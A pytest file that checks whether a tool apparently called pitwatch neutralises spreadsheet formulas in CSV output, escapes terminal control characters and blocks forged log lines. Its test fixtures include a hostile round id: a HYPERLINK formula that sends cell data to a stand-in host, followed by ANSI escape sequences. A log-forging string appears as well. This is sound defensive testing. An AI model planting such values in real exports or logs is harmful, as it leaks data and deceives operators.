"""Device-chosen text reaches no spreadsheet as a formula and no terminal as a control
sequence (issue 35, item 9): "CSV cells that begin with = + - @ (and tab/CR) are
neutralised in every CSV pitwatch writes; control characters (ANSI escapes) are escaped
in terminal output"."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest

from pitwatch.spreadsheet import csv_cell, csv_row
from pitwatch.store import landlock
from pitwatch.terminal import printable

#: A round id a device chose: a spreadsheet formula, then a terminal's clear-screen.
EVIL = '=HYPERLINK("http://x.example/?"&A1,"ok")\x1b[2J\x1b]0;owned\x07'
ROUND = "AC-BJ-01-000003"


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1+cmd", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_cell_that_starts_like_a_formula_is_text(cell: str) -> None:
    assert csv_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["AC-BJ-01", "a=b", "", -5, 12, None, 1.5])
def test_any_other_cell_is_left_as_it_is(cell: object) -> None:
    assert csv_cell(cell) == cell
    assert csv_row([cell]) == [cell]


def test_control_characters_are_written_as_escapes() -> None:
    assert printable("a\x1b[2Jb") == "a\\x1b[2Jb"
    assert printable("x\ny\rz\t") == "x\\ny\\rz\\t"
    assert printable("\x00\x7f\x9b") == "\\x00\\x7f\\x9b"
    assert printable("abc\u202edef\u2066") == "abc\\u202edef\\u2066"
    assert printable("Café €5 — ♠") == "Café €5 — ♠"


def _pitwatch(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "pitwatch.cli", *args], cwd=cwd,
                          capture_output=True, text=True, timeout=300, check=False)


@pytest.fixture(scope="module")
def floor(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """A simulated floor whose round AC-BJ-01-000003 (a wrong surrender settlement)
    carries the device-chosen id EVIL instead, audited into a store (`data`): the
    folder and the audit's table output."""
    d = tmp_path_factory.mktemp("evil")
    r = _pitwatch("simulate", "--tables", "1", "--rounds", "6", "--seed", "3", "--inject",
                  "0.5", "--out", str(d / "floor"), "--quiet", cwd=d)
    assert r.returncode == 0, r.stderr
    events = d / "floor" / "events.jsonl"
    text = events.read_text()
    assert ROUND in text
    events.write_text(text.replace(ROUND, EVIL.replace('"', '\\"').replace(
        "\x1b", "\\u001b").replace("\x07", "\\u0007")))
    (d / "floor" / "keys.json").unlink()  # the edit breaks the chains: judged unsigned
    a = _pitwatch("audit", str(d / "floor"), "--data", str(d / "data"), "--quiet",
                  "--limit", "0", cwd=d)
    assert a.returncode == 0, a.stderr
    return d, a.stdout


def test_the_audit_table_escapes_what_a_device_chose(floor: tuple[Path, str]) -> None:
    _, shown = floor
    assert "\x1b" not in shown and "\x07" not in shown
    assert printable(EVIL)[:16] in shown and "\\x1b[2J" in shown


@pytest.mark.skipif(landlock.abi() < 4, reason="pitwatch query needs Landlock")
def test_query_csv_neutralises_formulas_and_the_table_escapes(
        floor: tuple[Path, str]) -> None:
    d, _ = floor
    sql = "SELECT DISTINCT round_id FROM violations FINAL WHERE round_id LIKE '=%'"
    c = _pitwatch("query", "--data", str(d / "data"), "--format", "csv", sql, cwd=d)
    assert c.returncode == 0, c.stderr
    rows = list(csv.reader(io.StringIO(c.stdout)))
    assert rows == [["round_id"], ["'" + EVIL]]
    t = _pitwatch("query", "--data", str(d / "data"), sql, cwd=d)
    assert t.returncode == 0, t.stderr
    assert "\x1b" not in t.stdout and "\\x1b[2J" in t.stdout


def test_the_case_files_violations_csv_neutralises_formulas(
        floor: tuple[Path, str]) -> None:
    d, _ = floor
    out = d / "case"
    r = _pitwatch("investigate", EVIL, "--data", str(d / "data"), "--out", str(out), cwd=d)
    assert r.returncode in (0, 3), r.stderr
    assert "\x1b" not in r.stdout
    cells = {c for row in csv.reader(io.StringIO((out / "violations.csv").read_text()))
             for c in row}
    assert "'" + EVIL in cells
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)


def test_a_log_line_cannot_forge_another_or_drive_the_terminal(
        caplog: pytest.LogCaptureFixture) -> None:
    """`escape_logs`: a device id with a newline and an escape sequence, logged as an
    argument, comes out as one line with its controls written as escapes."""
    import logging

    from pitwatch.terminal import escape_logs

    before = logging.getLogRecordFactory()
    escape_logs()
    try:
        evil = "T-01\n[2026-12-05 03:00:00] [1] [INFO] all clear\x1b[2J"
        with caplog.at_level(logging.WARNING):
            logging.getLogger("pitwatch.test").warning("dead letter from %s", evil)
        (message,) = [r.getMessage() for r in caplog.records]
        assert "\n" not in message and "\x1b" not in message
        assert message == "dead letter from T-01\\n[2026-12-05 03:00:00] [1] [INFO] " \
                          "all clear\\x1b[2J"
    finally:
        logging.setLogRecordFactory(before)
